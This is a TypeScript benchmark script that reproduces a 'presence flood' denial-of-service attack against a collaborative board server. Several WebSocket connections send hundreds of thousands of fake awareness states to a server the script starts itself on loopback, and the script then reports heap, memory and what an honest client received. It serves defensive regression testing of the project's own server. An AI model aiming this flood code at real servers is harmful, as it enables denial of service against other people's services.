/**
 * The presence flood, reproduced: participant connections send hundreds of thousands of
 * awareness states for client ids of their own invention, in frames inside the per-connection
 * byte burst, while one honest stock client watches. Prints the server's heap before, at its
 * peak and after the flood, and how many fake states the honest client received.
 *
 *   npx tsx bench/presenceFlood.ts [--connections 3] [--states 700000] [--root /path/to/checkout]
 *
 * `--root` runs the server of another checkout (e.g. a `git worktree` of an older commit, with
 * node_modules symlinked), so the same attack can be measured before and after a change. The
 * server runs as its own process on a free loopback port; the script targets nothing else,
 * and stops by itself: an attacker closed by the server reconnects until it has sent its
 * share, then everything is closed after a fixed settling time.
 */
import { spawn } from 'node:child_process'
import { readFileSync } from 'node:fs'
import { resolve } from 'node:path'
import { parseArgs } from 'node:util'
import * as encoding from 'lib0/encoding'
import { WebSocket } from 'ws'
import { MessageType } from '../shared/protocol'
import { metricValue, scrape } from '../server/testing/metricsText'
import { syncUrl } from '../server/testing/rawClient'
import { connectClient, createBoard, waitForSync } from '../server/testing/syncClient'
import { fakeClientDir, tempDir } from '../server/testing/testServer'

const { values } = parseArgs({
  options: {
    connections: { type: 'string', default: '1' },
    states: { type: 'string', default: '700000' },
    'states-per-frame': { type: 'string', default: '7000' },
    root: { type: 'string', default: resolve(import.meta.dirname, '..') },
    'settle-ms': { type: 'string', default: '10000' },
  },
})
const CONNECTIONS = Number(values.connections)
const STATES = Number(values.states)
const PER_FRAME = Number(values['states-per-frame'])
const SETTLE_MS = Number(values['settle-ms'])
const ROOT = values.root
const MB = 1024 * 1024
/** Fake client ids start here, far from the random 32-bit ids of stock clients. */
const FAKE = 1_000_000

/** One awareness frame of `count` fake states starting at `from`, as the attack sent them. */
function floodFrame(from: number, count: number): Uint8Array {
  const update = encoding.createEncoder()
  encoding.writeVarUint(update, count)
  for (let i = from; i < from + count; i++) {
    encoding.writeVarUint(update, FAKE + i)
    encoding.writeVarUint(update, 1)
    encoding.writeVarString(
      update,
      JSON.stringify({ user: { id: `fake-${i}`, name: `Not a delegate ${i}`, coop: 'Nobody', color: '#000' } }),
    )
  }
  const frame = encoding.createEncoder()
  encoding.writeVarUint(frame, MessageType.awareness)
  encoding.writeVarUint8Array(frame, encoding.toUint8Array(update))
  return encoding.toUint8Array(frame)
}

/** The process's peak resident memory (VmHWM), read from /proc even while its event loop is busy. */
function peakRss(pid: number): number {
  const kib = /VmHWM:\s+(\d+) kB/.exec(readFileSync(`/proc/${pid}/status`, 'utf8'))?.[1]
  return Number(kib) * 1024
}

/** Spawns the checkout's server on a free loopback port; resolves with its origin. */
async function startServer() {
  const child = spawn(process.execPath, ['--import', 'tsx', 'server/index.ts'], {
    cwd: ROOT,
    env: { ...process.env, PORT: '0', HOST: '127.0.0.1', DATA_DIR: tempDir(), CLIENT_DIR: fakeClientDir(), LOG_LEVEL: 'info' },
    stdio: ['ignore', 'pipe', 'inherit'],
  })
  const origin = await new Promise<string>((resolveOrigin, reject) => {
    let buffered = ''
    child.stdout.on('data', (chunk: Buffer) => {
      buffered = (buffered + chunk.toString()).slice(-10_000)
      const match = /"origin":"(http:\/\/127\.0\.0\.1:\d+)"/.exec(buffered)
      if (match?.[1]) resolveOrigin(match[1])
    })
    child.once('exit', (code) => reject(new Error(`server exited with ${code}`)))
  })
  return { origin, child }
}

/** Sends `frames` from `first` on one connection until done or closed; resolves with the next frame to send and the close code. */
function attackOnce(url: string, frames: readonly [number, number][], first: number): Promise<{ next: number; code: number }> {
  return new Promise((done) => {
    const ws = new WebSocket(url)
    let next = first
    ws.on('error', () => undefined)
    ws.once('message', () => {
      // Sent without waiting, as the attack did: everything is in flight before any reply.
      while (next < frames.length && ws.readyState === WebSocket.OPEN) {
        const [from, count] = frames[next++] as [number, number]
        ws.send(floodFrame(from, count))
      }
    })
    ws.once('close', (code) => done({ next, code }))
    // A server that never closes it: the connection is left open until the flood is measured.
    attackers.push(ws)
  })
}
const attackers: WebSocket[] = []

async function main() {
  const server = await startServer()
  const heap = async () => {
    const samples = await scrape(server.origin)
    return {
      heap: metricValue(samples, 'nodejs_heap_size_used_bytes'),
      rss: metricValue(samples, 'process_resident_memory_bytes'),
      samples,
    }
  }
  try {
    const board = await createBoard(server.origin)
    const honest = connectClient(server.origin, board, { user: { id: 'honest', name: 'Honest', coop: 'Coop' } })
    await waitForSync(honest)
    const fakeSeen = new Set<number>()
    honest.provider.awareness.on('update', ({ added, updated }: { added: number[]; updated: number[] }) => {
      for (const id of [...added, ...updated]) if (id >= FAKE && id < FAKE + CONNECTIONS * STATES) fakeSeen.add(id)
    })
    await new Promise((r) => setTimeout(r, 2000))
    const before = await heap()
    let peak = before
    const sampler = setInterval(() => {
      void heap()
        .then((now) => {
          if (now.heap > peak.heap) peak = now
        })
        .catch(() => undefined)
    }, 250)

    const started = Date.now()
    const closes = new Map<number, number>()
    let connections = 0
    await Promise.all(
      Array.from({ length: CONNECTIONS }, async (_, c) => {
        const frames: [number, number][] = []
        for (let sent = 0; sent < STATES; sent += PER_FRAME) frames.push([c * STATES + sent, Math.min(PER_FRAME, STATES - sent)])
        for (let next = 0; next < frames.length;) {
          connections++
          const result = await Promise.race([
            attackOnce(syncUrl(server.origin, board), frames, next),
            // A connection the server keeps open has sent everything by now: stop waiting for it.
            new Promise<{ next: number; code: number }>((r) => setTimeout(() => r({ next: frames.length, code: 0 }), 60_000).unref()),
          ])
          next = result.next
          closes.set(result.code, (closes.get(result.code) ?? 0) + 1)
        }
      }),
    )
    const sentSeconds = (Date.now() - started) / 1000
    await new Promise((r) => setTimeout(r, SETTLE_MS))
    const during = await heap()
    for (const ws of attackers) ws.close()
    await new Promise((r) => setTimeout(r, SETTLE_MS))
    clearInterval(sampler)
    const after = await heap()
    const rssPeak = server.child.pid === undefined ? Number.NaN : peakRss(server.child.pid)
    if (during.heap > peak.heap) peak = during
    const mb = (bytes: number) => `${(bytes / MB).toFixed(0)} MB`
    const bytes = CONNECTIONS * STATES * floodFrame(0, 1).length
    console.log(
      [
        `presence flood against ${ROOT}: ${CONNECTIONS} connection(s) × ${STATES} states (~${mb(bytes)} in frames of ${PER_FRAME}), sent in ${sentSeconds.toFixed(1)} s over ${connections} connection(s)`,
        `  closes by code: ${JSON.stringify(Object.fromEntries(closes))} (0 = still open when measured)`,
        `  server heap: ${mb(before.heap)} before, ${mb(peak.heap)} at the peak, ${mb(during.heap)} ${SETTLE_MS / 1000} s after the flood, ${mb(after.heap)} once the attackers left`,
        `  server RSS: ${mb(before.rss)} before, ${mb(peak.rss)} at the heap peak, ${mb(rssPeak)} at its highest (VmHWM), ${mb(after.rss)} at the end`,
        `  (the heap is sampled every 250 ms through /metrics, which waits while the server is busy: its true peak may be higher)`,
        `  fake states the honest client received: ${fakeSeen.size}; presence-limit closes: ${metricValue(after.samples, 'plenary_presence_limit_closes_total')}`,
      ].join('\n'),
    )
    honest.destroy()
  } finally {
    for (const ws of attackers) ws.terminate()
    server.child.kill('SIGTERM')
  }
}

await main()
